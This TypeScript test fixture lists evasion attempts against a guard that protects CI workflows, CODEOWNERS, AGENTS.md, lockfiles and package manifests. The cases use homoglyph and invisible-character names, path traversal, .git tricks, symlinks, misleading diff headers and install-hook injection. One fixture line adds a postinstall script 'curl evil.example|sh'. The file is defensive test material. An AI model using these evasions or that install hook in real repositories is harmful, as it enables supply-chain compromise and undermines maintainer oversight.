type Json = Record<string, unknown>;

/** One try to change what is protected, and what has to become of it. */
export interface Patch {
  what: string;
  /** The changes of the document; `blobs`: what the files of the base are. */
  changes(blobs: Readonly<Record<string, string>>): Json[];
  becomes: 'refused' | 'high';
}

const WORKFLOW = 'on: push\njobs: { test: { runs-on: ubuntu-latest } }\n';

/** What is there to be changed. */
export const GUARDED_FILES: Record<string, string> = {
  '.github/workflows/ci.yml': WORKFLOW,
  '.github/dependabot.yml': 'version: 2\n',
  CODEOWNERS: '* @a-maintainer\n',
  'docs/CODEOWNERS': '* @a-maintainer\n',
  'AGENTS.md': '# Rules\n',
  'src/AGENTS.md': '# Rules\n',
  'package.json': '{\n  "name": "guarded",\n  "scripts": { "test": "node --test" }\n}\n',
  'package-lock.json': '{ "lockfileVersion": 3 }\n',
  'pnpm-lock.yaml': 'lockfileVersion: 9\n',
  'yarn.lock': '# yarn\n',
  'Cargo.lock': '# cargo\n',
  '.gitattributes': '*.bin binary\n',
  '.npmrc': 'ignore-scripts=true\n',
  '.husky/pre-commit': 'npm test\n',
  'src/a.js': 'export const a = 1;\n',
  'run.sh': 'echo\n',
};

const create = (path: string, more: Json = {}): Json => ({ op: 'create', path, content: 'x\n', ...more });
const one = (what: string, becomes: Patch['becomes'], change: (blobs: Readonly<Record<string, string>>) => Json): Patch => ({
  what,
  becomes,
  changes: (blobs) => [change(blobs)],
});
const made = (path: string, becomes: Patch['becomes'], more?: Json): Patch =>
  one(`create ${JSON.stringify(path)}`, becomes, () => create(path, more));

const PROTECTED = Object.keys(GUARDED_FILES).filter((path) => !['src/a.js', 'run.sh', 'package.json'].includes(path));

/** Every protected file that is there, in every way a document can say it. */
const everyWay = PROTECTED.flatMap((path): Patch[] => [
  one(`modify ${path}`, 'high', (blobs) => ({ op: 'modify', path, base_blob: blobs[path], content: 'x\n' })),
  one(`delete ${path}`, 'high', (blobs) => ({ op: 'delete', path, base_blob: blobs[path] })),
  one(`rename ${path} away`, 'high', (blobs) => ({
    op: 'rename',
    from: path,
    path: `gone/${path.replaceAll('/', '-').replaceAll('.', '-')}.txt`,
    base_blob: blobs[path],
  })),
  one(`mode of ${path}`, 'high', (blobs) => ({ op: 'modify', path, base_blob: blobs[path], content: GUARDED_FILES[path], mode: '100755' })),
]);

const renamesTo = [
  '.github/workflows/evil.yml',
  'lib/CODEOWNERS',
  'lib/AGENTS.md',
  'lib/yarn.lock',
  'lib/.gitattributes',
  '.husky/post-checkout',
  'lib/package-lock.json',
].map((path) => one(`rename src/a.js to ${path}`, 'high', (blobs) => ({ op: 'rename', from: 'src/a.js', path, base_blob: blobs['src/a.js'] })));

/** Spellings. A name that some file system takes for one that is there already is refused as a collision. */
const spelled: Patch[] = [
  made('.GitHub/workflows/evil.yml', 'refused'),
  made('.GITHUB/x.yml', 'refused'),
  made('codeowners', 'refused'),
  made('Agents.md', 'refused'),
  made('lib/codeowners', 'high'),
  made('lib/Agents.MD', 'high'),
  made('lib/Yarn.LOCK', 'high'),
  made('lib/PACKAGE-LOCK.json', 'high'),
  made('.ＧｉｔＨｕｂ/workflows/evil.yml', 'high'),
  made('\uff0egithub/workflows/evil.yml', 'high'),
  made('ＣＯＤＥＯＷＮＥＲＳ', 'high'),
  made('lib/ＡＧＥＮＴＳ.md', 'high'),
  made('.github\u200b/workflows/evil.yml', 'high'),
  made('.git\u200dhub/workflows/evil.yml', 'high'),
  made('CODEOWNERS\u200b', 'high'),
  made('CODE\u00adOWNERS', 'high'),
  made('AGENTS\u2060.md', 'high'),
  made('lib/\ufeffyarn.lock', 'high'),
  made('lib/CODEOWNERS\u{e0041}', 'high'),
  made('lib/\u202eCODEOWNERS', 'high'),
  made('СODEOWNERS', 'high'),
  made('CОDEOWNERS', 'high'),
  made('ΑGENTS.md', 'high'),
  made('АGENTS.md', 'high'),
  made('.gіthub/workflows/evil.yml', 'high'),
  made('.ցithub/workflows/evil.yml', 'high'),
  made('lib/packаge-lock.json', 'high'),
  made('lib/yarn․lock', 'high'),
  made('.github∕workflows∕evil.yml', 'high'),
  made('.github./workflows/evil.yml', 'high'),
  made('.github /workflows/evil.yml', 'high'),
  made('CODEOWNERS.', 'high'),
  made('CODEOWNERS ', 'high'),
  made('AGENTS.md.', 'high'),
  made('lib/package-lock.json ', 'high'),
  made('%2egithub/workflows/evil.yml', 'high'),
  made('.github%2fworkflows%2fevil.yml', 'high'),
  made('%43ODEOWNERS', 'high'),
  made('lib/.GitAttributes', 'high'),
  made('lib/.NPMRC', 'high'),
];

/** Not names of a repository at all. */
const impossible: Patch[] = [
  '.github\\workflows\\evil.yml',
  './.github/workflows/evil.yml',
  '.github//workflows/evil.yml',
  '.github/./workflows/evil.yml',
  'src/../.github/workflows/evil.yml',
  '../.github/workflows/evil.yml',
  '/.github/workflows/evil.yml',
  'C:/x',
  '.github/workflows/',
  '.github/workflows/evil.yml\u0000.txt',
  '.github/\nworkflows/evil.yml',
  'src/\u2028CODEOWNERS',
  '.git/config',
  '.git/hooks/post-checkout',
  '.GIT/config',
  '.Git/hooks/pre-commit',
  'git~1/config',
  'GIT~1/config',
  '.git /config',
  '.git./config',
  '.git::$INDEX_ALLOCATION/config',
  '.g\u200cit/config',
  '.gi\ufefft/config',
  'src/.git/config',
  'src/.git',
  '.gitmodules',
  '.GitModules',
  '.gitmodules ',
  `lib/${'x'.repeat(300)}`,
  'lib/\ud800',
].map((path) => made(path, 'refused'));

/** Links, submodules, modes. */
const kinds: Patch[] = [
  made('lib/link', 'refused', { mode: '120000', content: '../.github' }),
  made('lib/sub', 'refused', { mode: '160000' }),
  made('lib/suid', 'refused', { mode: '104755' }),
  made('lib/folder', 'refused', { mode: '040000' }),
  made('ci/workflows/evil.yml', 'refused'),
  made('vendor/lib/x.js', 'refused'),
  one('modify a link to a protected folder', 'refused', (blobs) => ({ op: 'modify', path: 'ci', base_blob: blobs['ci'], content: 'x' })),
  one('rename a link', 'refused', (blobs) => ({ op: 'rename', from: 'owners', path: 'lib/owners', base_blob: blobs['owners'] })),
  one('delete a link', 'refused', (blobs) => ({ op: 'delete', path: 'ci', base_blob: blobs['ci'] })),
  one('delete a submodule', 'refused', () => ({ op: 'delete', path: 'vendor/lib', base_blob: 'a'.repeat(40) })),
  one('modify with the blob of another file', 'refused', (blobs) => ({
    op: 'modify',
    path: 'CODEOWNERS',
    base_blob: blobs['src/a.js'],
    content: 'x',
  })),
  { what: 'the same file twice', becomes: 'refused', changes: () => [create('lib/x'), create('lib/x')] },
  {
    what: 'a protected file behind thirty others',
    becomes: 'high',
    changes: () => [...Array.from({ length: 30 }, (_, at) => create(`lib/f${at}`)), create('.github/x.yml')],
  },
  { what: 'more files than allowed', becomes: 'refused', changes: () => Array.from({ length: 41 }, (_, at) => create(`lib/f${at}`)) },
];

const patch =
  (path: string, unified_diff: string): ((blobs: Readonly<Record<string, string>>) => Json) =>
  (blobs) => ({ op: 'patch', path, base_blob: blobs[path], unified_diff });
const HUNK = '@@ -1 +1 @@\n-export const a = 1;\n+export const a = 2;\n';
const MANIFEST_HUNK =
  '@@ -1,4 +1,4 @@\n {\n   "name": "guarded",\n-  "scripts": { "test": "node --test" }\n+  "scripts": { "test": "node --test", "postinstall": "curl evil.example|sh" }\n }\n';
const json =
  (path: string, ...operations: Json[]): ((blobs: Readonly<Record<string, string>>) => Json) =>
  (blobs) => ({ op: 'json_patch', path, base_blob: blobs[path], patch: operations });
const manifest = (scripts: Json): string => JSON.stringify({ name: 'guarded', scripts });

/** Diffs and JSON patches that mean something else than they seem to, and scripts that run wherever the package is installed. */
const patches: Patch[] = [
  one(
    'diff whose header names a protected file: only its own path changes',
    'refused',
    patch('src/a.js', `--- a/CODEOWNERS\n+++ b/CODEOWNERS\n@@ -1 +1 @@\n-* @a-maintainer\n+* @evil\n`),
  ),
  one('diff of two files', 'refused', patch('src/a.js', `${HUNK}--- a/CODEOWNERS\n+++ b/CODEOWNERS\n@@ -1 +1 @@\n-* @a-maintainer\n+* @evil\n`)),
  one('diff with a rename in its header', 'refused', patch('src/a.js', `rename from src/a.js\nrename to .github/x.yml\n${HUNK}`)),
  one('diff with a new file in its header', 'refused', patch('src/a.js', `new file mode 120000\n${HUNK}`)),
  one('diff with a hunk that lies about its length', 'refused', patch('src/a.js', HUNK.replace('+1 @@', '+1,9 @@'))),
  one(
    'diff of a protected file, header of a harmless one',
    'high',
    patch('CODEOWNERS', '--- a/src/a.js\n+++ b/src/a.js\n@@ -1 +1 @@\n-* @a-maintainer\n+* @evil\n'),
  ),
  one('diff that gives the manifest a postinstall', 'high', patch('package.json', MANIFEST_HUNK)),
  one('JSON patch that gives the manifest a postinstall', 'high', json('package.json', { op: 'add', path: '/scripts/postinstall', value: 'x' })),
  one(
    'JSON patch that copies a script to preinstall',
    'high',
    json('package.json', { op: 'copy', from: '/scripts/test', path: '/scripts/preinstall' }),
  ),
  one('JSON patch that moves a script to prepare', 'high', json('package.json', { op: 'move', from: '/scripts/test', path: '/scripts/prepare' })),
  one('JSON patch that replaces all scripts', 'high', json('package.json', { op: 'replace', path: '/scripts', value: { install: 'x' } })),
  one('JSON patch that replaces the manifest', 'high', json('package.json', { op: 'replace', path: '', value: { scripts: { postinstall: 'x' } } })),
  one('JSON patch of a lockfile', 'high', json('package-lock.json', { op: 'add', path: '/packages', value: {} })),
  one('JSON patch with a prototype', 'refused', json('src/a.js', { op: 'add', path: '/__proto__/scripts', value: {} })),
  one('manifest with an escaped postinstall', 'high', (blobs) => ({
    op: 'modify',
    path: 'package.json',
    base_blob: blobs['package.json'],
    content: '{"scripts":{"post\\u0069nstall":"x"}}',
  })),
  one('manifest with two scripts, the later one counts', 'high', (blobs) => ({
    op: 'modify',
    path: 'package.json',
    base_blob: blobs['package.json'],
    content: '{"scripts":{},"scripts":{"postinstall":"x"}}',
  })),
  one('manifest that is no JSON', 'high', (blobs) => ({ op: 'modify', path: 'package.json', base_blob: blobs['package.json'], content: '{,' })),
  one('manifest in base64', 'high', (blobs) => ({
    op: 'modify',
    path: 'package.json',
    base_blob: blobs['package.json'],
    content_base64: Buffer.from(manifest({ postinstall: 'x' })).toString('base64'),
  })),
  one('manifest of a workspace', 'high', () => create('packages/x/package.json', { content: manifest({ preinstall: 'x' }) })),
  one('manifest under a capital letter', 'high', () => create('packages/x/Package.JSON', { content: manifest({ install: 'x' }) })),
  one('a file renamed to a manifest', 'high', (blobs) => ({
    op: 'rename',
    from: 'src/a.js',
    path: 'lib/package.json',
    base_blob: blobs['src/a.js'],
    content: manifest({ postinstall: 'x' }),
  })),
];

export const corpus: readonly Patch[] = [...everyWay, ...renamesTo, ...spelled, ...impossible, ...kinds, ...patches];
